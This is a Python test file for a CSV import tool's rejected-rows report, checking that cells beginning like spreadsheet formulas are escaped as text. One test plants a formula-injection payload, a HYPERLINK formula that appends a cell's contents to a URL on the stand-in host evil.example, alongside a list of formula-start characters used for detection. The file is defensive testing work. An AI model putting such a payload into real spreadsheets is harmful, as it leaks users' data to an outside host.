"""The rejected-rows report of ``import-csv`` is safe to open in a spreadsheet: no cell
that came from the imported file (or a detail quoting it) starts like a formula.
"""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from leadloop_ingest.domain.csv_rows import report_row, spreadsheet_safe

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def test_a_planted_formula_is_written_as_text() -> None:
    cells = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+86 139 0000 0000", "@SUM(1)"]
    line = io.StringIO()
    csv.writer(line).writerow(report_row(7, "invalid_email", "-2+3", cells))
    row = next(csv.reader(io.StringIO(line.getvalue())))
    assert row == [
        "7",
        "invalid_email",
        "'-2+3",
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        "'+86 139 0000 0000",
        "'@SUM(1)",
    ]


def test_plain_cells_are_unchanged() -> None:
    assert report_row(2, "missing_contact", "no email or phone", ["访客", "a@b.example"]) == [
        "2",
        "missing_contact",
        "no email or phone",
        "访客",
        "a@b.example",
    ]


@given(st.text())
def test_no_cell_starts_like_a_formula_and_nothing_is_lost(cell: str) -> None:
    safe = spreadsheet_safe(cell)
    assert not safe.startswith(FORMULA_STARTS)
    assert safe in (cell, "'" + cell)
